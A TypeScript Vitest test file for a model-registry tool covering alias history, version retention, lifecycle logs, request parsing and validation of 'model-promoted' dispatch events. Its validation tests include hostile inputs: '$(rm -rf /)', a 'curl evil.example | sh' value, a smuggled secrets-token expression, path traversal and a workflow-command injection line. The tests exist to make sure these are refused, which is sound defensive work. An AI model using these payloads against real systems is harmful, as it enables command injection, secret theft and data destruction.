import { describe, expect, it } from 'vitest';
import type { AliasEntry } from '../src/alias.ts';
import {
  aliasedVersions,
  lifecycleState,
  parseLifecycleEntry,
  retentionPlan,
  validateReason,
} from '../src/lifecycle.ts';
import { cleanupRequestFrom, deprecateRequestFrom, versionTargetFrom } from '../src/lifecycle-settings.ts';
import { parsePromotion, promotedVersion } from '../src/promotion.ts';
import { userErrorOf } from './contract.ts';

const moves = (alias: string, ...steps: [AliasEntry['action'], string][]): AliasEntry[] =>
  steps.map(([action, version], index) => ({
    alias,
    seq: index + 1,
    version,
    previous: null,
    time: '2026-01-01T00:00:00.000Z',
    action,
  }));

const refused = (run: () => unknown) => userErrorOf(Promise.resolve().then(run));

describe('the versions aliases need', () => {
  it('are each alias’s current version and the one its rollback returns to, with why', () => {
    const needed = aliasedVersions(
      new Map([
        ['production', moves('production', ['promote', '1.0.0'], ['promote', '1.1.0'], ['promote', '1.2.0'])],
        ['staging', moves('staging', ['promote', '1.2.0'])],
      ]),
    );
    expect(Object.fromEntries(needed)).toEqual({
      '1.2.0': ['alias production points to it', 'alias staging points to it'],
      '1.1.0': ['a rollback of alias production would return to it'],
    });
  });

  it('follow a rollback: after 3 → 2 the alias needs 2, and 1 for the next rollback', () => {
    const history = moves(
      'production',
      ['promote', '1.0.0'],
      ['promote', '2.0.0'],
      ['promote', '3.0.0'],
      ['rollback', '2.0.0'],
    );
    expect([...aliasedVersions(new Map([['production', history]])).keys()].sort()).toEqual([
      '1.0.0',
      '2.0.0',
    ]);
  });
});

describe('retention', () => {
  it('keeps the newest by semantic-version order, and every version an alias needs', () => {
    const versions = ['1.10.0', '1.2.0', '1.9.0', '2.0.0-rc.1', '2.0.0', '0.1.0'];
    const plan = retentionPlan(versions, 2, new Map([['0.1.0', ['alias production points to it']]]));
    expect(plan).toEqual({
      remove: ['1.2.0', '1.9.0', '1.10.0'],
      kept: ['0.1.0', '2.0.0-rc.1', '2.0.0'],
    });
    expect(retentionPlan(versions, 10, new Map()).remove).toEqual([]);
  });

  it('refuses to keep no version', async () => {
    expect(await refused(() => retentionPlan(['1.0.0'], 0, new Map()))).toContain('1 or more');
  });
});

describe('the lifecycle log', () => {
  const entry = (seq: number, version: string, action: string, reason?: string) =>
    JSON.stringify({ seq, version, action, time: '2026-01-01T00:00:00.000Z', ...(reason ? { reason } : {}) });

  it('gives each version the standing of its last entry', () => {
    const log = [
      parseLifecycleEntry(entry(2, '1.0.0', 'undeprecate'), 'x'),
      parseLifecycleEntry(entry(1, '1.0.0', 'deprecate', 'bad'), 'x'),
      parseLifecycleEntry(entry(3, '1.1.0', 'delete'), 'x'),
    ];
    const state = lifecycleState(log);
    expect(state.get('1.0.0')?.action).toBe('undeprecate');
    expect(state.get('1.1.0')?.action).toBe('delete');
  });

  it('refuses a stored reason that could break a log line into a workflow command', async () => {
    expect(
      await refused(() =>
        parseLifecycleEntry(entry(1, '1.0.0', 'deprecate', 'ok\n::error::forged'), 'the log'),
      ),
    ).toBe('The lifecycle record at the log is malformed.');
    expect(await refused(() => parseLifecycleEntry(entry(1, '../x', 'deprecate', 'r'), 'x'))).toContain(
      'Invalid version',
    );
    expect(await refused(() => parseLifecycleEntry(entry(1, '1.0.0', 'purge'), 'x'))).toContain('malformed');
  });

  it('takes a given reason as one line, and refuses none or a very long one', async () => {
    expect(validateReason('  regressed\n on   March\tdata ')).toBe('regressed on March data');
    expect(await refused(() => validateReason('  '))).toContain('Give a reason');
    expect(await refused(() => validateReason('x'.repeat(501)))).toContain('under 500');
  });
});

describe('the lifecycle requests', () => {
  it('read <name>@<version>, or name and version', async () => {
    expect(versionTargetFrom({ target: 'iris@v1.2.0' })).toEqual({ name: 'iris', version: '1.2.0' });
    expect(versionTargetFrom({ name: 'iris', version: '1.2.0' })).toEqual({ name: 'iris', version: '1.2.0' });
    expect(await refused(() => versionTargetFrom({ target: 'iris' }))).toContain('iris@1.2.0');
    expect(await refused(() => versionTargetFrom({ target: '@1.0.0' }))).toContain('<name>@<version>');
    expect(await refused(() => versionTargetFrom({ target: '../x@1.0.0' }))).toContain('Invalid model name');
    expect(await refused(() => versionTargetFrom({ target: 'iris@1.0.0', name: 'iris' }))).toContain(
      'not both',
    );
  });

  it('need a reason to deprecate and none to undo', async () => {
    expect(deprecateRequestFrom({ target: 'iris@1.0.0', reason: 'leaks' })).toEqual({
      name: 'iris',
      version: '1.0.0',
      reason: 'leaks',
      undo: false,
    });
    expect(deprecateRequestFrom({ target: 'iris@1.0.0', undo: true })).toEqual({
      name: 'iris',
      version: '1.0.0',
      undo: true,
    });
    expect(await refused(() => deprecateRequestFrom({ target: 'iris@1.0.0' }))).toContain('Give a reason');
    expect(
      await refused(() => deprecateRequestFrom({ target: 'iris@1.0.0', undo: true, reason: 'x' })),
    ).toContain('no `reason`');
  });

  it('clean up with keep and name, gc, or both; never with nothing to do', async () => {
    expect(cleanupRequestFrom({ name: 'iris', keep: ' 3 ', gc: true })).toEqual({
      retain: { name: 'iris', keep: 3 },
      gc: true,
      dryRun: false,
    });
    expect(cleanupRequestFrom({ keep: '', gc: true, dryRun: true })).toEqual({ gc: true, dryRun: true });
    expect(await refused(() => cleanupRequestFrom({ name: 'iris', keep: '2.5' }))).toContain('whole number');
    expect(await refused(() => cleanupRequestFrom({ name: 'iris', keep: '0' }))).toContain('1 or more');
    expect(await refused(() => cleanupRequestFrom({ keep: '3' }))).toContain('give `name`');
    expect(await refused(() => cleanupRequestFrom({ name: 'iris', gc: true }))).toContain(
      '`name` is for `keep`',
    );
    expect(await refused(() => cleanupRequestFrom({ gc: false }))).toContain('nothing to clean up');
  });
});

describe('a model-promoted event', () => {
  const payload = { name: 'iris', version: '1.2.0', alias: 'staging', previous: '1.1.0' };
  const event = (p: unknown) => ({ name: 'repository_dispatch', action: 'model-promoted', payload: p });

  it('gives a deploy the version of its own model', () => {
    expect(parsePromotion({ ...payload, previous: null, extra: '$(rm -rf /)' })).toEqual({
      ...payload,
      previous: null,
    });
    expect(promotedVersion(event(payload), 'iris')).toBe('1.2.0');
    expect(promotedVersion({ name: 'push', payload: {} }, 'iris')).toBeUndefined();
    expect(
      promotedVersion({ name: 'repository_dispatch', action: 'retrain', payload }, 'iris'),
    ).toBeUndefined();
  });

  it('is refused when any field is not what mlactions sends', async () => {
    expect(await refused(() => promotedVersion(event(payload), 'churn'))).toContain(
      'for model iris, not churn',
    );
    for (const hostile of [
      { ...payload, version: '1.2.0; curl evil.example | sh' },
      { ...payload, version: ['$', '{{ secrets.TOKEN }}'].join('') },
      { ...payload, name: '../../etc' },
      { ...payload, alias: 'a\nb' },
      { ...payload, version: 120 },
      { ...payload, previous: 'yesterday' },
    ]) {
      await refused(() => promotedVersion(event(hostile), 'iris'));
    }
    expect(await refused(() => parsePromotion(undefined))).toContain('no text `name`');
  });
});
